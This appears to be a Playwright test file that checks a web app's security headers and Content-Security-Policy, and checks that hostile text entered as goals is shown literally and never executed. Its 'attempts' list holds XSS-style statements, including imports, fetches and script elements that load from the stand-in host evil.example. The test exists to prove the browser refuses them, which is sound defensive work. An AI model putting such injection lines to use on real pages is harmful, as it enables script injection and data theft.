// proof: hostile, refusals

import { createHash } from 'node:crypto';

import { noteCase } from '../support/figures.ts';
import { tryTexts } from '../support/hostile-places.ts';
import { scripts, scriptsOfTheWorld } from '../support/hostile.ts';
import { pages, publicPages } from '../support/pages.ts';
import { backendOrigin, imageOrigin, workerBackendOrigin } from './support/addresses.mjs';
import { expectToFit } from './support/geometry';
import { registerNewUser, signIn } from './support/people';
import { expect, test, wideOnly } from './support/test';

const hostile = [...scripts, ...scriptsOfTheWorld];

/** Answers that must carry the headers, with how long they may be kept. */
const answers: [address: string, status: number, cache: string][] = [
  ['/', 200, 'no-cache'],
  ['/dashboard', 200, 'no-cache'],
  ['/reset-password?token=secret', 200, 'no-cache'],
  ['/robots.txt', 200, 'no-cache'],
  ['/assets/gone-00000000.js', 404, 'no-store'],
];

/** The addresses known at build time. */
const documents = pages.map(({ path }) => path).filter((path) => !path.includes('company-3'));

/** @param styles the hashes of the styles in the documents @param inline the hashes of their scripts */
const headersWith = (styles: string, inline: string) => ({
  'content-security-policy': `default-src 'none'; script-src 'self' ${inline}; style-src 'self' ${styles}; img-src 'self' blob: ${backendOrigin} ${imageOrigin}; font-src 'self'; connect-src 'self' ${backendOrigin}; manifest-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; object-src 'none'; require-trusted-types-for 'script'; worker-src 'self'; trusted-types cairn-reader`,
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'no-referrer',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'cross-origin-embedder-policy': 'credentialless',
  'permissions-policy':
    'accelerometer=(), camera=(), geolocation=(), gyroscope=(), magnetometer=(), microphone=(), payment=(), usb=()',
});

test(
  'every answer carries the headers, exactly, and no service worker is registered',
  { tag: wideOnly },
  async ({ page }) => {
    const inline = { style: new Set<string>(), script: new Set<string>() };
    for (const address of documents) {
      const html = await (await page.request.get(address)).text();
      for (const name of ['style', 'script'] as const) {
        const [, text] = new RegExp(`<${name}>([^]*?)</${name}>`).exec(html) ?? [];
        if (text !== undefined) inline[name].add(`'sha256-${createHash('sha256').update(text).digest('base64')}'`);
      }
    }
    // All forms share one style with the page of a link, all frames another; all share one script.
    expect([inline.style.size, inline.script.size]).toEqual([publicPages.length + 2, 1]);
    const listed = (hashes: Set<string>) => [...hashes].toSorted().join(' ');
    const headers = headersWith(listed(inline.style), listed(inline.script));
    for (const [address, status, cache] of answers) {
      const answer = await page.request.get(address);
      expect(answer.status(), address).toBe(status);
      expect(answer.headers(), address).toMatchObject({ ...headers, 'cache-control': cache });
      expect(answer.headers(), address).not.toHaveProperty('strict-transport-security');
    }
    await page.goto('/dashboard');
    const script = await page.locator('script[type=module]').first().getAttribute('src');
    const asset = await page.request.get(script ?? '');
    expect(asset.headers()).toMatchObject({ ...headers, 'cache-control': 'public, max-age=31536000, immutable' });
    await page.goto('/');
    expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
  },
);

/** A refused action, the directive that refuses it, and a statement that attempts it in the page. */
const attempts: [name: string, directive: string, statement: string][] = [
  ['markup from text', 'require-trusted-types-for', 'document.body.innerHTML = "<b>x</b>"'],
  ['a script of text', 'require-trusted-types-for', 'document.createElement("script").text = "window.__xss = 1"'],
  ['another Trusted Types policy', 'trusted-types', 'trustedTypes.createPolicy("other", {})'],
  ['code of another host', 'script-src-elem', 'import("https://evil.example/x.js").catch(() => 0)'],
  ['an inline script', 'require-trusted-types-for', 'add("script", {}, "window.__xss = 1")'],
  ['a script of another host', 'require-trusted-types-for', 'add("script", { src: "https://evil.example/x.js" })'],
  ['a style in the page', 'style-src-elem', 'add("style", {}, "h1 { color: red }")'],
  ['a call to another host', 'connect-src', 'fetch("https://evil.example/").catch(() => 0)'],
  ['a picture of another host', 'img-src', 'add("img", { src: "https://evil.example/x.png" })'],
  ['a frame', 'frame-src', 'add("iframe", { src: "https://evil.example/" })'],
];

const add = `function add(name, properties, text = '') {
  const element = document.createElement(name);
  element.append(text);
  document.body.append(Object.assign(element, properties));
}`;

test(
  'what the policy refuses is refused, and would fail a test that does not allow it',
  { tag: wideOnly },
  async ({ page, watch }) => {
    await page.goto('/individual-signin');
    const refusals = (directive: string) =>
      watch.problems.filter((problem) => problem.startsWith(`policy violation: ${directive} `)).length;
    for (const [name, directive, statement] of attempts) {
      const before = refusals(directive);
      await page.evaluate(`(() => { ${add}; ${statement}; })()`).catch(() => undefined);
      await expect.poll(() => refusals(directive), name).toBe(before + 1);
      noteCase('refusals', name);
    }
    expect(await page.evaluate(() => window.__xss)).toBeUndefined();
    watch.allow(/policy violation|^console\.error|request failed|another host/);
  },
);

test('hostile text as goals, roles and results: shown letter for letter', { tag: wideOnly }, async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const { token } = await signIn(page, await registerNewUser());
  for (const text of hostile) {
    const answer = await page.request.post(`${workerBackendOrigin}/api/ai/okr`, {
      headers: { Authorization: `Bearer ${token}` },
      data: { role: text, goal: text, industry: text },
    });
    expect(answer.ok(), text).toBe(true);
  }
  await page.goto('/okrs');
  const goals = page.locator('[data-goal]');
  await expect(goals).toHaveCount(hostile.length);
  const shown = await goals.evaluateAll((nodes) => nodes.map((node) => node.textContent));
  await tryTexts('as goals, drafted', hostile, () => expect(shown.toSorted()).toEqual(hostile.toSorted()));
  await expectToFit(page);
  // A sample, which includes texts that Unicode normalization changes; its order depends on the clock.
  const opened = shown.flatMap((text, index) => (index % 9 === 0 || text !== text.normalize() ? [index] : []));
  expect(opened.some((index) => shown[index] !== shown[index]?.normalize())).toBe(true);
  for (const index of opened) {
    await goals.nth(index).click();
    await expect(page.getByLabel('Details').getByRole('heading', { level: 2 })).toHaveText(shown[index] ?? '', {
      useInnerText: false,
    });
  }
  await page
    .getByRole('button', { name: /^Delete / })
    .first()
    .click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  await page.goto('/notifications');
  await expect(page.getByRole('main').getByRole('listitem')).toHaveCount(hostile.length);
  await expectToFit(page);
  // Nothing of it ran; policy violations and requests to other hosts fail every test anyway.
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => window.__xss)).toBeUndefined();
});
